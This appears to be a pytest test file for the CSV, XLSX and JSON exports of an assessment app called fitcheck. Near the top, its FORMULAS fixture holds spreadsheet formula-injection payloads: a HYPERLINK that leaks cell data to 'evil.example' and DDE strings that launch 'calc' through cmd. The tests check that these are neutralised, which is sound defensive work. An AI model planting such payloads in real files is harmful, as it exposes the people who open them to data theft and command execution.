"""Exports: sealed until the reveal, anonymous, safe to open in a spreadsheet, and showing
the numbers of the fit model — in CSV, XLSX and JSON alike."""

from __future__ import annotations

import csv
import io
import zipfile
from datetime import date
from typing import Any
from urllib.parse import quote

import pytest
from openpyxl import load_workbook

from fitcheck import vocabulary
from fitcheck.extensions import db
from fitcheck.models import Side
from fitcheck.services import api_tokens, assessments, commitments, exports
from fitcheck.services.answers import AnswerInput, save_answers
from fitcheck.services.results import ResultsSealed, load_results

from .support import count_queries
from .worked_example import PEOPLE, TRAITS, WORKED, WORKED_MIRROR_SCORE

FORMULAS = {
    "partner": '=HYPERLINK("http://evil.example/?leak="&A1,"Open")',
    "label": "+1 passion",
    "comment_minus": "-cmd|' /C calc'!A0",
    "comment_at": "@SUM(1+1)*cmd|' /C calc'!A0",
}


def urls(assessment_id: int) -> list[str]:
    base = f"/assessments/{assessment_id}/export"
    return [
        f"{base}/answers.csv",
        f"{base}/results.csv",
        f"{base}/results.xlsx",
        f"{base}/results.json",
    ]


def read_csv(body: bytes) -> list[dict[str, str]]:
    assert body.startswith(b"\xef\xbb\xbf")
    return list(csv.DictReader(io.StringIO(body.decode("utf-8-sig"), newline="")))


def xlsx_text(body: bytes) -> str:
    """Every XML part of a workbook, so a search sees what the compressed bytes hide."""
    with zipfile.ZipFile(io.BytesIO(body)) as archive:
        return "".join(archive.read(name).decode("utf-8") for name in archive.namelist())


def download_all(client: Any, assessment_id: int) -> dict[str, Any]:
    responses = {url.rsplit("/", 1)[1]: client.get(url) for url in urls(assessment_id)}
    for name, response in responses.items():
        assert response.status_code == 200, name
    return responses


def searchable(responses: dict[str, Any]) -> str:
    return "".join(
        xlsx_text(response.data) if name.endswith(".xlsx") else response.data.decode("utf-8")
        for name, response in responses.items()
    )


# --- The seal --------------------------------------------------------------------------------


def test_every_export_is_refused_before_the_reveal(worked_example, sign_in, client):
    assessment, user = worked_example(reveal=False)
    sign_in(user.email)
    for url in urls(assessment.id):
        response = client.get(url)
        assert response.status_code == 409, url
        assert "Content-Disposition" not in response.headers
        assert response.headers["Cache-Control"] == "no-store"
        text = response.get_data(as_text=True)
        assert "passion" not in text and "C1 on" not in text
        if url.endswith(".json"):
            assert response.json["error"]["code"] == 409
        else:
            assert response.mimetype == "text/html"
            assert f"/assessments/{assessment.id}" in text
    for export in (exports.answer_rows, exports.results_rows, exports.to_xlsx, exports.to_json):
        with pytest.raises(ResultsSealed):
            export(assessment)


def test_exports_need_a_signed_in_user(worked_example, client):
    assessment, _ = worked_example()
    for url in urls(assessment.id):
        response = client.get(url)
        assert response.status_code == 302 and "/sign-in" in response.headers["Location"]


def test_another_workspace_gets_404_for_every_export(worked_example, make_user, sign_in, client):
    assessment, _ = worked_example()
    stranger = make_user()
    sign_in(stranger.email)
    for url in urls(assessment.id):
        response = client.get(url)
        assert response.status_code == 404, url
        assert "passion" not in response.get_data(as_text=True)


# --- The answers file ------------------------------------------------------------------------


def test_answers_csv_is_tidy_utf8_with_a_bom_and_crlf(worked_example, sign_in, client):
    assessment, user = worked_example(partner_name="株式会社ミラー")
    sign_in(user.email)
    response = client.get(f"/assessments/{assessment.id}/export/answers.csv")
    assert response.status_code == 200
    assert response.mimetype == "text/csv"
    assert response.headers["Content-Type"] == "text/csv; charset=utf-8"
    assert response.headers["Cache-Control"] == "no-store"
    body = response.data
    assert body.startswith(b"\xef\xbb\xbf")
    assert body.count(b"\r\n") == body.count(b"\n") == 1 + 3 * 4 * 3
    rows = read_csv(body)
    assert list(rows[0]) == list(exports.ANSWER_COLUMNS)
    assert len(rows) == len(WORKED) * len(TRAITS) * 3
    assert {row["partner"] for row in rows} == {"株式会社ミラー"}
    assert {row["kind"] for row in rows} == {"pre_contract"}
    assert {row["perspective"] for row in rows} == {"other", "self", "importance"}
    assert {row["respondent"] for row in rows} == {"company-1", "company-2", "client-1"}
    assert {row["trait_label_ja"] for row in rows} >= {"passion（日本語）"}


def test_cant_judge_and_missing_importance_are_empty_values_that_say_why(worked_example):
    assessment, _ = worked_example()
    rows = exports.answer_rows(assessment)
    value = {
        (row["respondent"], row["trait_key"], row["perspective"]): row["value"] for row in rows
    }
    answer = {
        (row["respondent"], row["trait_key"], row["perspective"]): row["answer"] for row in rows
    }
    # C2 is the company respondent who could not judge the client's growth.
    c2 = next(f"company-{n}" for n in (1, 2) if value[(f"company-{n}", "growth", "other")] is None)
    assert value[(c2, "passion", "other")] == 5 and value[(c2, "growth", "self")] == 3
    assert value[("client-1", "dialogue", "importance")] is None
    assert value[("client-1", "dialogue", "self")] == 5
    csv_rows = read_csv(exports.to_csv(rows))
    growth = next(
        row
        for row in csv_rows
        if (row["respondent"], row["trait_key"], row["perspective"]) == (c2, "growth", "other")
    )
    assert growth["value"] == ""
    # The empty value says why: "can't judge" is not an importance left out.
    assert growth["answer"] == answer[(c2, "growth", "other")] == "cant_judge"
    assert answer[("client-1", "dialogue", "importance")] == "not_given"
    assert answer[(c2, "passion", "other")] == "given"
    assert {row["answer"] for row in rows if row["value"] is not None} == {"given"}
    assert {row["answer"] for row in rows if row["value"] is None} == {"cant_judge", "not_given"}


def test_no_names_or_emails_appear_in_any_export(worked_example, sign_in, client):
    assessment, user = worked_example()
    sign_in(user.email)
    text = searchable(download_all(client, assessment.id))
    for name, email in PEOPLE.values():
        assert name not in text and name.split()[1] not in text
        assert email not in text and email.split("@")[0] not in text


def test_respondent_ids_are_stable_and_follow_neither_ids_nor_names(app, worked_example):
    assessment, _ = worked_example()
    assert exports.answer_rows(assessment) == exports.answer_rows(assessment)
    app.config["SECRET_KEY"] = "a fixed key for a reproducible order"
    ids = exports._opaque_ids(7, [(rid, Side.COMPANY) for rid in range(1, 9)])
    assert sorted(ids.values()) == sorted(f"company-{n}" for n in range(1, 9))
    assert list(ids.values()) == [f"company-{n}" for n in range(1, 9)]
    assert list(ids) != list(range(1, 9))  # numbered in keyed-hash order, not by id
    assert exports._opaque_ids(7, [(rid, Side.COMPANY) for rid in range(8, 0, -1)]) == ids
    both = exports._opaque_ids(7, [(1, Side.CLIENT), (2, Side.COMPANY), (3, Side.CLIENT)])
    assert both[2] == "company-1" and {both[1], both[3]} == {"client-1", "client-2"}


def test_answers_export_runs_a_constant_number_of_queries(
    make_user, make_assessment, sign_in, client
):
    def revealed(per_side: int, user: Any) -> tuple[Any, int]:
        assessment, tokens = make_assessment(user, company=per_side, client=per_side)
        keys = [trait.key for trait in assessment.traits]
        for respondent in tokens:
            save_answers(
                respondent,
                [AnswerInput(trait_key=key, other=3, self_=4, importance=2) for key in keys],
                submit=True,
            )
        assessments.reveal(assessment)
        return assessment, len(keys)

    user = make_user()
    sign_in(user.email)
    counts = []
    for per_side in (1, 4):
        assessment, trait_count = revealed(per_side, user)
        url = f"/assessments/{assessment.id}/export/answers.csv"
        db.session.expire_all()
        with count_queries() as statements:
            response = client.get(url)
        assert response.status_code == 200
        assert len(read_csv(response.data)) == 2 * per_side * trait_count * 3
        counts.append(len(statements))
    assert counts[0] == counts[1], counts


# --- Formula injection -----------------------------------------------------------------------


def test_formula_text_is_neutralised_in_csv_and_xlsx(worked_example, sign_in, client):
    assessment, user = worked_example(
        partner_name=FORMULAS["partner"],
        labels={"passion": FORMULAS["label"]},
        comments={
            ("C1", "passion"): FORMULAS["comment_minus"],
            ("C2", "passion"): FORMULAS["comment_at"],
        },
    )
    sign_in(user.email)
    base = f"/assessments/{assessment.id}/export"

    for name in ("answers.csv", "results.csv"):
        rows = read_csv(client.get(f"{base}/{name}").data)
        assert {row["partner"] for row in rows} == {"'" + FORMULAS["partner"]}
        passion = [row for row in rows if row["trait_key"] == "passion"]
        assert {row["trait_label_en"] for row in passion} == {"'" + FORMULAS["label"]}

    results_csv = client.get(f"{base}/results.csv").data.decode("utf-8-sig")
    assert ",-1.5," in results_csv and "'-1.5" not in results_csv  # numbers stay numbers

    workbook = load_workbook(io.BytesIO(client.get(f"{base}/results.xlsx").data))
    assert workbook.sheetnames == ["Answers", "Results", "Fit", "Comments"]
    for sheet in workbook.worksheets:
        assert sheet.freeze_panes == "A2"
        assert all(cell.font.bold for cell in sheet[1])
        for row in sheet.iter_rows(min_row=2):
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
    answers = workbook["Answers"]
    header = [cell.value for cell in answers[1]]
    partner = answers.cell(row=2, column=header.index("partner") + 1)
    assert partner.data_type == "s" and partner.value == "'" + FORMULAS["partner"]
    labels = {row[header.index("trait_label_en")] for row in answers.iter_rows(values_only=True)}
    assert "'" + FORMULAS["label"] in labels
    comments = [row[-1] for row in workbook["Comments"].iter_rows(min_row=2, values_only=True)]
    assert "'" + FORMULAS["comment_minus"] in comments
    assert "'" + FORMULAS["comment_at"] in comments

    document = client.get(f"{base}/results.json").json  # JSON is not a spreadsheet: raw text
    assert document["assessment"]["partner"] == FORMULAS["partner"]
    passion = next(group for group in document["comments"] if group["trait_key"] == "passion")
    assert FORMULAS["comment_minus"] in passion["comments"]


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("=1+1", "'=1+1"),
        ("+1", "'+1"),
        ("-cmd", "'-cmd"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("＝1+1", "'＝1+1"),
        ("plain", "plain"),
        ("a=1", "a=1"),
        ("", ""),
    ],
)
def test_neutralise_quotes_only_text_a_spreadsheet_would_run(text, expected):
    assert exports.neutralise(text) == expected


def test_csv_keeps_numbers_as_numbers_and_neutralises_only_text():
    body = exports.to_csv(
        [{"gap": -1.5, "n": -2, "label": "-1.5", "flag": True, "none": None}],
        ["gap", "n", "label", "flag", "none"],
    )
    assert body == "\ufeffgap,n,label,flag,none\r\n-1.5,-2,'-1.5,TRUE,\r\n".encode()
    assert exports.to_csv([], exports.ANSWER_COLUMNS).startswith(b"\xef\xbb\xbfassessment_id,")


def test_xlsx_keeps_numbers_numeric(worked_example):
    assessment, _ = worked_example()
    workbook = load_workbook(io.BytesIO(exports.to_xlsx(assessment)))
    results = workbook["Results"]
    header = [cell.value for cell in results[1]]
    gaps = {
        row[header.index("trait_key")].value: row[header.index("gap")]
        for row in results.iter_rows(min_row=2)
    }
    assert gaps["response"].data_type == "n" and gaps["response"].value == pytest.approx(-1.5)
    answers = workbook["Answers"]
    value = [cell.value for cell in answers[1]].index("value")
    values = [row[value] for row in answers.iter_rows(min_row=2)]
    assert all(cell.data_type == "n" for cell in values if cell.value is not None)
    assert any(cell.value is None for cell in values)  # can't judge: an empty cell


# --- Anonymity threshold ---------------------------------------------------------------------


def test_a_withheld_side_is_left_out_of_every_format(worked_example, sign_in, client):
    assessment, user = worked_example(
        min_responses=2, comments={("K1", key): f"client secret {key}" for key in TRAITS}
    )
    sign_in(user.email)
    responses = download_all(client, assessment.id)

    answers = read_csv(responses["answers.csv"].data)
    assert len(answers) == 2 * len(TRAITS) * 3
    assert {row["side"] for row in answers} == {"company"}

    results = read_csv(responses["results.csv"].data)
    assert all(row["us"] == row["them_self"] == row["rwg_client"] == "" for row in results)
    assert {row["verdict"] for row in results} == {"not_enough_data"}

    workbook = load_workbook(io.BytesIO(responses["results.xlsx"].data))
    assert {row[3] for row in workbook["Answers"].iter_rows(min_row=2, values_only=True)} == {
        "company"
    }
    assert {row[3] for row in workbook["Comments"].iter_rows(min_row=2, values_only=True)} == {
        "company"
    }

    document = responses["results.json"].json
    assert document["responses"] == {"company": 2, "client": 1}
    assert document["fit"]["withheld_client"] is True
    assert document["fit"]["responses_client"] == 1
    assert {group["side"] for group in document["comments"]} == {"company"}

    assert "client secret" not in searchable(responses)


# --- One computation -------------------------------------------------------------------------


def test_json_numbers_are_those_of_the_fit_model(worked_example, sign_in, client):
    assessment, user = worked_example()
    sign_in(user.email)
    response = client.get(f"/assessments/{assessment.id}/export/results.json")
    assert response.mimetype == "application/json"
    document = response.json
    engine = load_results(assessment).fit
    assert document["fit"] == vocabulary.round_values(engine)
    labels = {trait.key: (trait.label_en, trait.label_ja) for trait in assessment.traits}
    assert document["traits"] == [
        {
            "key": row.trait,
            "label_en": labels[row.trait][0],
            "label_ja": labels[row.trait][1],
            **vocabulary.trait_values(row),
        }
        for row in engine.traits
    ]
    assert document["fit"]["mirror_score"] == pytest.approx(WORKED_MIRROR_SCORE, abs=1e-4)
    assert document["assessment"]["id"] == assessment.id
    assert [trait["key"] for trait in document["traits"]] == list(TRAITS)
    assert document["previous_round"] is None and document["change"] is None
    assert document["comments"][0] == {
        "trait_key": "passion",
        "side": "company",
        "comments": ["C1 on passion", "C2 on passion"],
    }
    assert document["commitments"] == []


def test_the_json_export_lists_the_rounds_commitments_as_the_api_does(
    worked_example, sign_in, client
):
    assessment, user = worked_example()
    trait = assessment.traits[1]
    commitments.add_commitment(
        assessment,
        trait_id=trait.id,
        side=Side.CLIENT,
        action='=HYPERLINK("x") weekly call',
        owner="Sato",
        due_on=date(2027, 3, 31),
        created_by_id=user.id,
    )
    db.session.commit()
    token = api_tokens.create_token(user, "Export test")[1]
    sign_in(user.email)
    document = client.get(f"/assessments/{assessment.id}/export/results.json").json
    api = f"/api/v1/assessments/{assessment.id}/commitments"
    listed = client.get(api, headers={"Authorization": f"Bearer {token}"}).json["items"]
    assert document["commitments"] == listed
    (commitment,) = document["commitments"]
    assert commitment["trait_key"] == trait.key and commitment["side"] == "client"
    assert commitment["action"] == '=HYPERLINK("x") weekly call'  # JSON is data, not cells
    assert commitment["due_on"] == "2027-03-31" and commitment["status"] == "open"


def test_the_worked_example_mirror_score_appears_in_every_results_export(
    worked_example, sign_in, client
):
    assessment, user = worked_example()
    sign_in(user.email)
    responses = download_all(client, assessment.id)

    results = read_csv(responses["results.csv"].data)
    assert [row["trait_key"] for row in results] == list(TRAITS)
    # Full precision (64.16579…), as the fit model computed it; rounding is for display.
    assert {row["mirror_score"] for row in results} == {repr(float(results[0]["mirror_score"]))}
    assert float(results[0]["mirror_score"]) == pytest.approx(WORKED_MIRROR_SCORE, abs=1e-4)
    by_trait = {row["trait_key"]: row for row in results}
    assert float(by_trait["response"]["gap"]) == pytest.approx(-1.5)
    assert by_trait["growth"]["band"] == "major"
    assert by_trait["response"]["blind_spot_company"] == "TRUE"
    assert by_trait["growth"]["hidden_strength_client"] == "TRUE"
    assert float(by_trait["passion"]["rwg_company"]) == pytest.approx(0.75)
    assert by_trait["growth"]["rwg_company"] == ""
    assert float(by_trait["response"]["weight"]) == pytest.approx(4.25)

    workbook = load_workbook(io.BytesIO(responses["results.xlsx"].data))
    fit = {row[0]: row[1] for row in workbook["Fit"].iter_rows(min_row=2, values_only=True)}
    assert fit["mirror_score"] == pytest.approx(WORKED_MIRROR_SCORE, abs=1e-4)
    assert fit["elevation"] == pytest.approx(-0.4)
    assert fit["shape_r"] == pytest.approx(-0.5704, abs=1e-4)
    assert fit["level_us"] == pytest.approx(0.6955, abs=1e-4)
    assert fit["level_them"] == pytest.approx(0.5955, abs=1e-4)
    assert fit["verdict"] == "one_sided" and fit["falls_short"] == "client"
    assert fit["self_described_score"] == pytest.approx(56.3719, abs=1e-4)
    assert fit["company_perceived_score"] == pytest.approx(59.6887, abs=1e-4)
    assert fit["client_perceived_score"] == pytest.approx(56.8301, abs=1e-4)

    document = responses["results.json"].json
    assert document["fit"]["mirror_score"] == pytest.approx(WORKED_MIRROR_SCORE, abs=1e-4)


# --- Downloads -------------------------------------------------------------------------------


def test_downloads_are_attachments_with_their_content_types(worked_example, sign_in, client):
    assessment, user = worked_example(partner_name="Acme & Co.")
    sign_in(user.email)
    expected = {
        "answers.csv": ("text/csv", "answers.csv"),
        "results.csv": ("text/csv", "results.csv"),
        "results.xlsx": (exports.XLSX_CONTENT_TYPE, "results.xlsx"),
        "results.json": ("application/json", "results.json"),
    }
    for name, response in download_all(client, assessment.id).items():
        mimetype, suffix = expected[name]
        assert response.mimetype == mimetype
        assert response.headers["Cache-Control"] == "no-store"
        assert response.headers["Content-Disposition"] == (
            f'attachment; filename="fitcheck-acme-co-{assessment.id}-{suffix}"'
        )


def test_a_japanese_partner_name_reaches_the_filename(worked_example, sign_in, client):
    assessment, user = worked_example(partner_name="株式会社 ミラー／東京")
    sign_in(user.email)
    response = client.get(f"/assessments/{assessment.id}/export/answers.csv")
    disposition = response.headers["Content-Disposition"]
    unicode_name = f"fitcheck-株式会社-ミラー-東京-{assessment.id}-answers.csv"
    assert disposition == (
        f'attachment; filename="fitcheck-partner-{assessment.id}-answers.csv"; '
        f"filename*=UTF-8''{quote(unicode_name, safe='')}"
    )
    assert disposition.isascii()
